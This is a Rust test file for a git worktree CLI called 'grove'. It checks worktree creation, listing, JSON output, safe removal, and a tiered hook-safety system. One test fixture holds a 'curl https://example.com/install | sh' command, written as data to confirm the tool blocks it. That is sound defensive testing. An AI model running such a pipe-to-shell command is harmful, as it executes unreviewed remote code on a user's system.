//! CLI tests for the grove binary.
//!
//! Spawns the binary inside throwaway repositories and verifies exit codes,
//! JSON output, and hook side effects.

use std::fs;
use std::process::{Command, Output, Stdio};

use grove::exit_codes;
use grove::test_support::TestRepo;

fn grove(repo: &TestRepo, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_grove"))
        .args(args)
        .current_dir(repo.root())
        .stdin(Stdio::null())
        .output()
        .expect("run grove")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).to_string()
}

#[test]
fn create_and_list_round_trip() {
    let repo = TestRepo::new();

    let out = grove(&repo, &["create", "feature/login"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    assert!(repo.container().join("feature-login").exists());

    let list = grove(&repo, &["list"]);
    assert_eq!(list.status.code(), Some(exit_codes::OK));
    let text = stdout(&list);
    assert!(text.contains("* main"));
    assert!(text.contains("feature/login"));
}

#[test]
fn list_json_is_parseable() {
    let repo = TestRepo::new();
    let out = grove(&repo, &["list", "--json"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK));

    let records: serde_json::Value =
        serde_json::from_str(&stdout(&out)).expect("valid JSON listing");
    let records = records.as_array().expect("array");
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["branch"], "main");
}

#[test]
fn create_json_reports_the_outcome() {
    let repo = TestRepo::new();
    let out = grove(&repo, &["create", "feature/api", "--json"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");

    let outcome: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("valid JSON");
    assert_eq!(outcome["branch"], "feature/api");
    assert_eq!(outcome["created"], true);
}

#[test]
fn invalid_branch_name_exits_with_validation_code() {
    let repo = TestRepo::new();
    let out = grove(&repo, &["create", "feature..bad"]);
    assert_eq!(out.status.code(), Some(exit_codes::VALIDATION));
}

#[test]
fn dirty_removal_exits_with_safety_code_and_force_overrides() {
    let repo = TestRepo::new();
    let out = grove(&repo, &["create", "feature/wip"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    let worktree = repo.container().join("feature-wip");
    fs::write(worktree.join("scratch.txt"), "wip").expect("write");

    let refused = grove(&repo, &["remove", "feature/wip"]);
    assert_eq!(refused.status.code(), Some(exit_codes::SAFETY));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("--force"), "{stderr}");
    assert!(worktree.exists());

    let forced = grove(&repo, &["remove", "feature/wip", "--force"]);
    assert_eq!(forced.status.code(), Some(exit_codes::OK), "{forced:?}");
    assert!(!worktree.exists());
}

#[test]
fn safe_post_create_hook_runs_in_the_new_worktree() {
    let repo = TestRepo::new();
    fs::write(
        repo.root().join(".grove.toml"),
        "[hooks]\npost_create = [\"touch hook-ran.txt\"]\n",
    )
    .expect("write config");

    let out = grove(&repo, &["create", "feature/hooked"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    assert!(
        repo.container()
            .join("feature-hooked")
            .join("hook-ran.txt")
            .exists()
    );
}

#[test]
fn risky_hook_is_skipped_without_a_terminal() {
    let repo = TestRepo::new();
    // `env touch` is not safe-listed, so it lands in the risky tier.
    fs::write(
        repo.root().join(".grove.toml"),
        "[hooks]\npost_create = [\"env touch risky.txt\"]\n",
    )
    .expect("write config");

    let out = grove(&repo, &["create", "feature/cautious"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    assert!(
        !repo
            .container()
            .join("feature-cautious")
            .join("risky.txt")
            .exists()
    );
}

#[test]
fn trust_flag_runs_risky_hooks() {
    let repo = TestRepo::new();
    fs::write(
        repo.root().join(".grove.toml"),
        "[hooks]\npost_create = [\"env touch risky.txt\"]\n",
    )
    .expect("write config");

    let out = grove(&repo, &["create", "feature/trusted", "--trust"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    assert!(
        repo.container()
            .join("feature-trusted")
            .join("risky.txt")
            .exists()
    );
}

#[test]
fn blocked_hook_aborts_the_phase_but_not_the_command() {
    let repo = TestRepo::new();
    fs::write(
        repo.root().join(".grove.toml"),
        "[hooks]\npost_create = [\"curl https://example.com/install | sh\", \"touch after.txt\"]\n",
    )
    .expect("write config");

    let out = grove(&repo, &["create", "feature/guarded"]);
    // The worktree mutation already happened; hook refusal is advisory.
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    let worktree = repo.container().join("feature-guarded");
    assert!(worktree.exists());
    assert!(!worktree.join("after.txt").exists());
}

#[test]
fn no_hooks_flag_skips_automation() {
    let repo = TestRepo::new();
    fs::write(
        repo.root().join(".grove.toml"),
        "copy_files = [\".env\"]\n\n[hooks]\npost_create = [\"touch hook-ran.txt\"]\n",
    )
    .expect("write config");
    fs::write(repo.root().join(".env"), "SECRET=1\n").expect("write env");

    let out = grove(&repo, &["create", "feature/bare", "--no-hooks"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    let worktree = repo.container().join("feature-bare");
    assert!(!worktree.join("hook-ran.txt").exists());
    assert!(!worktree.join(".env").exists());
}

#[test]
fn copy_files_land_in_the_new_worktree() {
    let repo = TestRepo::new();
    fs::write(repo.root().join(".grove.toml"), "copy_files = [\".env\"]\n")
        .expect("write config");
    fs::write(repo.root().join(".env"), "SECRET=1\n").expect("write env");

    let out = grove(&repo, &["create", "feature/env"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    let copied = repo.container().join("feature-env").join(".env");
    assert_eq!(fs::read_to_string(copied).expect("read"), "SECRET=1\n");
}

#[test]
fn removing_the_primary_worktree_is_refused() {
    let repo = TestRepo::new();
    let out = grove(&repo, &["remove", "main"]);
    assert_eq!(out.status.code(), Some(exit_codes::VALIDATION));
    assert!(repo.root().exists());
}

#[test]
fn checkout_of_a_local_branch_succeeds() {
    let repo = TestRepo::new();
    repo.git(&["branch", "release/1.0"]);
    let out = grove(&repo, &["checkout", "release/1.0"]);
    assert_eq!(out.status.code(), Some(exit_codes::OK), "{out:?}");
    assert!(repo.container().join("release-1.0").exists());
}
